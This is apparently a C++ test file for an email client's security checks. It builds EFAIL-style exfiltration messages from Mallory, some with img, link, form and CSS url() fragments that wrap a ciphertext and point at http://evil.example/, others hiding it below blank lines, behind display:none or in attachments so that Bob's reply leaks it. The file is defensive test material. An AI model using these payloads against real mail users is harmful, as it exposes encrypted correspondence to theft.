// SPDX-License-Identifier: GPL-3.0-or-later
// Ciphertext that Mallory caught, in a message of his own: the text goes out by an address, or by Bob's reply
// (EFAIL, 2018; "Re: What's Up Johnny?", 2019).
#include "tests/attacks/attack.h"

namespace sealpost::test {

namespace {

using incoming::Warning;
using P = incoming::Protection;
using E = incoming::EncryptionState;
using Parts = std::vector<std::string>;

constexpr const char* to_an_address = "the text in an address that is fetched";
constexpr const char* to_a_reply = "the text in Bob's reply to Mallory";

/// Parts under multipart/`subtype`; "@" stands for the ciphertext.
std::function<std::string(const Workshop&)> around(std::string_view subtype, const Parts& parts) {
    return [=](const Workshop& w) {
        Parts made;
        for (const std::string& part : parts) {
            const std::size_t at = part.find('@');
            made.push_back(at == part.npos
                               ? part
                               : part.substr(0, at) + w.encrypted_part(secret_text()) + part.substr(at + 1));
        }
        return w.header(Workshop::mallory) + MailMaker::multipart(subtype, made);
    };
}

/// The same, sealed by Mallory to Bob once more.
std::function<std::string(const Workshop&)> sealed_again(std::string_view subtype, const Parts& parts) {
    return [=, inner = around(subtype, parts)](const Workshop& w) {
        const std::string message = inner(w);
        return w.header(Workshop::mallory) +
               w.sealed_part(message.substr(message.find("Content-Type:")), Workshop::mallory);
    };
}

std::string html(std::string_view markup) { return MailMaker::html_part(markup); }

} // namespace

std::vector<Attack> exfiltration_attacks() {
    const std::string blank_lines(1000, '\n');
    const std::vector<Warning> errant{Warning::errant_encryption};
    return {
        {"between two halves of an image", to_an_address,
         around("mixed", {html("<img src=\"http://evil.example/"), "@", html("\">")}), P::unprotected,
         E::none, errant},
        {"between two halves of a link", to_an_address,
         around("mixed", {html("<a href=\"http://evil.example/"), "@", html("\">click</a>")}), P::unprotected,
         E::none, errant},
        {"in a form", to_an_address,
         around("mixed", {html("<form action=\"http://evil.example/\"><textarea name=t>"), "@",
                          html("</textarea><input type=submit></form>")}),
         P::unprotected, E::none, errant},
        {"in a style sheet", to_an_address,
         around("mixed", {html("<style>body{background:url(http://evil.example/"), "@", html(")}</style>")}),
         P::unprotected, E::none, errant},
        {"in multipart/related", to_an_address,
         around("related", {html("<img src=\"http://evil.example/"), "@", html("\">")})},
        {"in multipart/alternative", to_an_address,
         around("alternative", {html("<img src=\"http://evil.example/"), "@", html("\">")})},
        {"in an image by cid", to_an_address,
         around("related", {html("<img src=\"cid:c\">"), "Content-ID: <c>\n@"})},
        {"below blank lines", to_a_reply,
         around("mixed", {MailMaker::text_part("lunch?" + blank_lines), "@"}), P::unprotected, E::none,
         errant},
        {"hidden by style", to_a_reply,
         around("mixed", {html("lunch?<div style=\"display:none\">"), "@", html("</div>")}), P::unprotected,
         E::none, errant},
        {"first, then the question", to_a_reply, around("mixed", {"@", MailMaker::text_part("lunch?\n")}),
         P::unprotected, E::none, errant},
        {"as the other form of the question", to_a_reply,
         around("alternative", {MailMaker::text_part("lunch?\n"), "@"})},
        {"as an attachment", to_a_reply,
         around("mixed", {MailMaker::text_part("lunch?\n"), "Content-Disposition: attachment\n@"})},
        {"in an attached message", to_a_reply,
         around("mixed", {MailMaker::text_part("lunch?\n"),
                          "Content-Type: message/rfc822\n\nFrom: alice@example.org\n@"})},
        {"beside the question in a sealed message of mallory's", to_a_reply,
         sealed_again("mixed", {MailMaker::text_part("lunch?\n"), "@"}), P::signed_and_encrypted,
         E::decrypted, errant},
        {"as the other form in a sealed message of mallory's", to_a_reply,
         sealed_again("alternative", {"@", html("lunch?")}), P::signed_and_encrypted, E::decrypted, errant},
        {"alone in a message of mallory's", to_a_reply,
         [](const Workshop& w) { return w.header(Workshop::mallory) + w.encrypted_part(secret_text()); },
         P::encrypted, E::decrypted},
        {"alone, signed outside by mallory", "Alice's words as Mallory's",
         [](const Workshop& w) {
             return w.header(Workshop::mallory) +
                    w.signed_part(w.encrypted_part(secret_text()), Workshop::mallory);
         },
         P::encrypted, E::decrypted},
        {"two ciphertexts", to_a_reply, around("mixed", {"@", "@"}), P::unprotected, E::none, errant},
    };
}

} // namespace sealpost::test
